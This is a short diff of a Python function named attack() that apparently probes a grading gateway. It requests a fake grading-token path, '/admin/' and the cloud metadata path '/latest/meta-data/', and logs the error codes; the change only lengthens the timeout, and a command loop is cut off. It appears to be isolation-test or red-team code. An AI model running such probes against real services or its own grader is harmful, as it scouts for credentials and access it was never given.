@@ -84,7 +84,7 @@ def attack() -> None:
     gateway, _, _ = URL.partition("/grading/")
     for path in ("/grading/" + "x" * 43 + "/health", "/admin/", "/latest/meta-data/"):
         try:
-            urllib.request.urlopen(gateway + path, timeout=5)
+            urllib.request.urlopen(gateway + path, timeout=120)
         except urllib.error.HTTPError as error:
             print("asked", path, error.code, flush=True)
     for command in (
